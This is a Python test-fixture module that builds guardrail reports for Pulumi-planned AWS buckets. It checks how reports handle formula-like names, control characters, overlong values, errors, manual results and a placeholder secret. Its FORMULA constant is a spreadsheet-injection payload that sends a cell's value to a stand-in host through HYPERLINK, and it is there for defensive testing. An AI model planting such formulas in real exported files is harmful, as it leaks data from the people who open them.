"""Documents for reports in files: every status, texts that a spreadsheet would run, a secret, and Hirosaki's plan."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from functools import lru_cache
from typing import Any

import pulumi
import pulumi_aws as aws

from jichi.engine.host import plan_stack
from jichi.engine.plan import Plan, StackId
from jichi.tenancy.model import Cloud
from jichi.text import Text
from policies.assessment import assess
from policies.cases import Case, Kind, Planted
from policies.document import check_document
from policies.guardrail import Claims, Each, Guardrail, Judge, Subject
from policies.guardrails import GUARDRAILS
from policies.guardrails.aws.buckets import BUCKET, PUBLIC_ACCESS_BLOCKED
from policies.judgement import Evidence, Judgement, Status, failed
from policies.world import World
from tests.jichi.report.check.documents import NOW
from tests.network.proof.plants import base

FORMULA = '=HYPERLINK("http://example.com/"&A1,"見る")'
"""A value that a spreadsheet would run."""

NAMES = (FORMULA, "+1+1", "-1", "@SUM(A1)", "＝1+1", "\t=1", "plain", "bell\x07 and \x1b[31m")
LONG = "語" * 40_000
SECRET = "5f0c2b1e-9f1c-4f0e-8f43-secret-marker"  # noqa: S105 - what no report may hold


def _guardrail(name: str, judge: Judge) -> Guardrail:
    return replace(PUBLIC_ACCESS_BLOCKED, id=f"aws-s3-{name}", check=Each((BUCKET,), judge))


def _shows(subject: Subject) -> Judgement:
    names = subject.resource.inputs["bucket"]
    return failed(Evidence("bucket", names, Text(ja="=1+1 ではない\n別の値", en="not =1+1\nanother value")))


def _breaks(subject: Subject) -> Judgement:
    raise ValueError(subject.resource.inputs["bucket"])


def _by_hand(_: Subject) -> Judgement:
    return Judgement(Status.MANUAL, (), Text(ja="人が見る。\n二行目", en="People look.\nSecond line"))


SHOWS = _guardrail("shows", _shows)
BREAKS = _guardrail("breaks", _breaks)
BY_HAND = _guardrail("by-hand", _by_hand)


def judged(plan: Plan, *guardrails: Guardrail) -> dict[str, Any]:
    return check_document(assess(World(plan), guardrails, NOW), "plan")


@lru_cache(maxsize=1)
def odd() -> Mapping[str, Any]:
    """Names and values that are formulas or cannot be printed, a value far too long, ERROR and MANUAL."""
    buckets = [Planted(BUCKET, {"bucket": each}, each) for each in NAMES]
    long = Planted(BUCKET, {"bucket": LONG}, "long")
    return judged(Case(Kind.FAIL, (*buckets, long)).plan, SHOWS, BREAKS, BY_HAND)


def missing(name: str) -> None:
    """What `find_spec` says of a package that is not installed."""
    assert name == "trestle"


@lru_cache(maxsize=1)
def empty() -> Mapping[str, Any]:
    """Nothing was looked at: no guardrail, no result."""
    return judged(Plan("case", ()))


@lru_cache(maxsize=1)
def hirosaki() -> Mapping[str, Any]:
    """Two members of Hirosaki on AWS, as the program plans them, under every guardrail that takes no proof."""
    return judged(base(Cloud.AWS), *(each for each in GUARDRAILS if each.cloud is Cloud.AWS and not is_proof(each)))


def is_proof(guardrail: Guardrail) -> bool:
    return isinstance(guardrail.check, Claims)


@lru_cache(maxsize=1)
def secretive() -> Mapping[str, Any]:
    """A program with a secret, under guardrails that show it and that break over it."""
    stack = StackId("jichi", "dev", "022021", Cloud.AWS)

    def program() -> None:
        word = pulumi.Output.secret(SECRET)
        aws.s3.Bucket("it", bucket=word, tags={"note": pulumi.Output.concat("with ", word)})

    return judged(Plan("case", (plan_stack(stack, program, {}),)), SHOWS, BREAKS)
